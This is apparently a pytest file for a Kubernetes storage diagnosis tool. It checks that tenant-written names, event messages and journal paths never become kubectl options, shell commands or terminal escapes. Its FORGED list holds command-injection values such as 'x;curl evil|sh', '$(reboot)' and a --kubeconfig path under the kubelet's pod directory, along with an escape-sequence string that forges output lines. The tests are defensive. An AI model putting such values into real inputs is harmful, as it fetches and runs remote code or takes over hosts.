"""What a tenant writes into objects, events and the journal is text: no option, no command, no escape."""

from __future__ import annotations

import json
import re
from typing import TYPE_CHECKING, Any

import pytest

from nodeagent.administration import ctl
from nodeagent.diagnosis import claim, link, pod, remedy
from nodeagent.diagnosis.finding import Finding, Severity
from nodeagent.diagnosis.kubectl import Kubectl, refuse
from nodeagent.diagnosis.objects import Unknown, Unseen, gathered
from tests.diagnosis.recorded import VOLUME, Recorded, serving, waiting

if TYPE_CHECKING:
    from collections.abc import Iterator
    from pathlib import Path

    from nodeagent.diagnosis.link import Verdict

FORGED = (
    "x;curl evil|sh",
    "x --kubeconfig=/var/lib/kubelet/pods/0/k",
    "--kubeconfig=/var/lib/kubelet/pods/0/k",
    "$(reboot)",
    "n1;curl${IFS}evil|sh",
)
SHOWN = "\x1b]0;x\x07\nWho must act: nobody.\x9b2J"
HARMLESS = re.compile(r"[A-Za-z0-9 ./~=_:-]*(?: \| grep [A-Za-z0-9./_-]+)?")


class Asked:
    """A kubectl that notes its arguments and says that there is nothing."""

    def __init__(self, directory: Path, monkeypatch: pytest.MonkeyPatch) -> None:
        self._file = directory / "asked"
        program = directory / "kubectl"
        program.write_text(
            f"#!/bin/sh\nfor one; do printf '%s\\0' \"$one\"; done >>{self._file}\necho >>{self._file}\n"
            "echo 'Error from server (NotFound): it is not there' >&2\nexit 1\n"
        )
        program.chmod(0o755)
        monkeypatch.setenv("PATH", f"{directory}:/usr/bin:/bin")

    @property
    def calls(self) -> list[list[str]]:
        lines = self._file.read_text().splitlines() if self._file.exists() else []
        return [line.split("\0")[:-1] for line in lines]


@pytest.mark.subprocess
@pytest.mark.parametrize("name", [*FORGED, "a\0b", "a\n", "Upper", "a" * 254])
def test_a_claims_name_that_is_an_option_is_not_given_to_kubectl(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, name: str
) -> None:
    asked = Asked(tmp_path, monkeypatch)
    for words in (("pvc", name, "default"), ("pvc", "data", name)):
        with pytest.raises(Unseen, match="is no name of an object of Kubernetes"):
            Kubectl()(*words)
    assert asked.calls == []


@pytest.mark.subprocess
def test_a_name_comes_last_where_kubectl_takes_no_option(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    asked = Asked(tmp_path, monkeypatch)
    assert Kubectl("--context", "lab")("pvc", "data-0.a", "default") is None
    (call,) = asked.calls
    assert call[-2:] == ["--", "data-0.a"]
    assert call[:2] == ["--context", "lab"]


def test_a_claim_of_a_forged_name_is_said_to_be_unseen(api: Recorded) -> None:
    made = api.pod()
    made["spec"]["volumes"][0]["persistentVolumeClaim"]["claimName"] = FORGED[0]
    verdict = gathered_strictly(api, "default/web")
    assert verdict.first is None or verdict.first.state != link.RIGHT
    assert any(
        one.state == link.UNSEEN and "is no name of an object" in one.sentence for one in verdict.links
    )


@pytest.mark.parametrize("forged", FORGED)
def test_no_field_of_an_object_becomes_part_of_a_command(forged: str) -> None:
    """Each text of each object in turn, in clusters in which commands are said."""
    looked = 0
    for api in clusters():
        for kind, holder, key in list(texts(api)):
            before = holder[key]
            holder[key] = forged
            for subject in ("default/web", "default/data", VOLUME):
                for one in known(api, subject):
                    looked += 1
                    assert HARMLESS.fullmatch(one.command), (kind, key, one.command)
                    assert "kubeconfig" not in one.command, (kind, key, one.command)
            holder[key] = before
    assert looked > 1000


@pytest.mark.parametrize("word", FORGED)
def test_no_word_of_an_events_message_becomes_part_of_a_command(word: str) -> None:
    for sentence in (
        f"It is mapped to host iscsi-{word} [volume-mapped-elsewhere]",
        f"It is mapped to host {word} [volume-mapped-elsewhere]",
        f"Pool {word} has 1 GiB. [pool-full]",
        f"It is full: {word} has 1 GiB. [pool-full]",
    ):
        for volume in (VOLUME, word):
            command = remedy.of_sentence(sentence, volume)[1].command
            assert command
            assert HARMLESS.fullmatch(command), command
            assert "kubeconfig" not in command
    for code in remedy.REMEDIES:
        for command in (remedy.of_code(code, volume=word).command, remedy.kubelets_journal(word)):
            assert HARMLESS.fullmatch(command), command
            assert "kubeconfig" not in command


def test_a_sentence_of_others_writes_no_line_and_no_escape_of_its_own(api: Recorded) -> None:
    api.event(waiting(api).kept["pod", "default", "web"], "FailedMount", f'"{VOLUME}" {SHOWN}')
    shown = "\n".join(link.lines(api.why(), proof=True))
    assert [line for line in shown.splitlines() if line.startswith("Who must act")] == [
        "Who must act: the node's administrator."
    ]
    assert all(one.isprintable() or one == "\n" for one in shown)
    assert "Who must act: nobody." in shown, "what it says is still to be read"


def test_a_process_that_is_called_by_escapes_is_shown_without_them() -> None:
    found = Finding("volumes", "held", Severity.ERROR, f"It is held by {SHOWN}", cause=SHOWN, command=SHOWN)
    assert all(one.isprintable() for one in found.to_json().values())
    assert Finding.from_json(found.to_json()) == found


@pytest.mark.parametrize("words", [["--json"], []])
def test_what_instoragectl_prints_has_no_escape_but_its_colours(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], words: list[str]
) -> None:
    file = tmp_path / f"a{SHOWN.replace('/', '')}"
    assert ctl.main(["trace", "vol1", "--journal", str(file), *words]) == 1
    said = capsys.readouterr()
    for text in (said.out, said.err):
        assert all(one.isprintable() or one == "\n" for one in text)
    if words:
        assert SHOWN in json.loads(said.out)["fault"]["sentence"]
    painted = "\x1b[31;1merror\x1b[0m a\x1b[8mb\x1b[2J"
    assert ctl._seen(painted) == "\x1b[31;1merror\x1b[0m a\ufffd[8mb\ufffd[2J"


@pytest.fixture
def api() -> Recorded:
    return serving()


def clusters() -> Iterator[Recorded]:
    """Clusters in which a claim waits, is bound, a mount fails, a PV is released, and a pod runs."""
    pending = serving()
    pending.kept["lease", "kube-system", "inspur-instorage"]["spec"]["leaseDurationSeconds"] = 0.05
    pending.claim()
    pending.pod("")
    yield pending
    named = serving()
    del named.kept["lease", "kube-system", "inspur-instorage"]
    named.claim(volume=VOLUME)
    yield named
    failing = waiting(serving())
    failing.failed_mount(f"No path to {VOLUME} came up. [no-path] (request 0a1b2c3d4e)")
    yield failing
    released = serving()
    released.bound()[1]["status"]["phase"] = "Released"
    yield released
    running = serving()
    running.bound()
    running.pod(phase="Running")
    yield running


def texts(api: Recorded) -> Iterator[tuple[str, Any, Any]]:
    """Every text of every object that a user of a namespace may write: its place in what holds it."""
    for (kind, _, _), found in api.kept.items():
        yield from _texts(kind, found)
    for event in api.events:
        yield from _texts("event", event)


def _texts(kind: str, found: Any) -> Iterator[tuple[str, Any, Any]]:
    for key, value in list(found.items() if isinstance(found, dict) else enumerate(found)):
        if isinstance(value, str):
            yield kind, found, key
        elif isinstance(value, (dict, list)):
            yield from _texts(kind, value)


def gathered_strictly(api: Recorded, subject: str) -> Verdict:
    """As the cluster and its kubectl answer: a name that is none is not asked for."""
    return link.judged(subject, said(api, subject))


def known(api: Recorded, subject: str) -> list[link.Link]:
    try:
        return said(api, subject)
    except Unknown:  # the cluster has no pod, or no claim
        return []


def said(api: Recorded, subject: str) -> list[link.Link]:
    def ask(kind: str, name: str = "", namespace: str = "") -> Any:
        refuse(name, namespace)
        return api(kind, name, namespace)

    found = gathered(ask, subject)
    return [*claim.links(found), *pod.links(found)]
